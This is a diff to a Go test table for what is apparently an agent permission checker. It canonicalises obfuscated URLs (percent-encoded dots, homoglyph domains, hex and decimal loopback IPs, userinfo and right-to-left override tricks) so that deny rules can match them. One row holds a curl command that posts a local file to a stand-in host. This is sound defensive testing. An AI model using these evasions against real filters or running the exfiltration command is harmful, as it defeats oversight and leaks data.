@@ -164,10 +164,12 @@ func TestTarget(t *testing.T) {
 		{"http_get", map[string]any{"url": "https://evil.test\\@x.example.com"}, "https://evil.test\\@x.example.com", true},
 		{"http_get", map[string]any{"url": "https://evil.test/ .example.com"}, "https://evil.test/ .example.com", true},
 		{"http_get", map[string]any{"url": "https://evil.test/\u202e.example.com"}, "https://evil.test/\u202e.example.com", true},
-		{"http_get", map[string]any{"url": "https://evil%2etest/"}, "https://evil%2etest/", true},
-		{"http_get", map[string]any{"url": "https://ex\u0430mple.com/"}, "https://ex\u0430mple.com/", true},
-		{"http_get", map[string]any{"url": "http://0x7f.1/"}, "http://0x7f.1/", true},
-		{"http_get", map[string]any{"url": "http://2130706433/"}, "http://2130706433/", true},
+		// Spellings clients decode to one place are canonicalised (issue 27 item 3; the
+		// full table is TestHostForms): a deny rule on the canonical form must see them.
+		{"http_get", map[string]any{"url": "https://evil%2etest/"}, "evil.test", false},
+		{"http_get", map[string]any{"url": "https://ex\u0430mple.com/"}, "xn--exmple-4nf.com", false},
+		{"http_get", map[string]any{"url": "http://0x7f.1/"}, "127.0.0.1", false},
+		{"http_get", map[string]any{"url": "http://2130706433/"}, "127.0.0.1", false},
 		{"http_get", map[string]any{"url": "https:evil.test"}, "https:evil.test", true},
 		{"http_get", map[string]any{"url": "ftp://x.example.com/"}, "ftp://x.example.com/", true},
 		{"shell", map[string]any{"command": "curl -d @x https://e.test"}, "curl -d @x https://e.test", false},
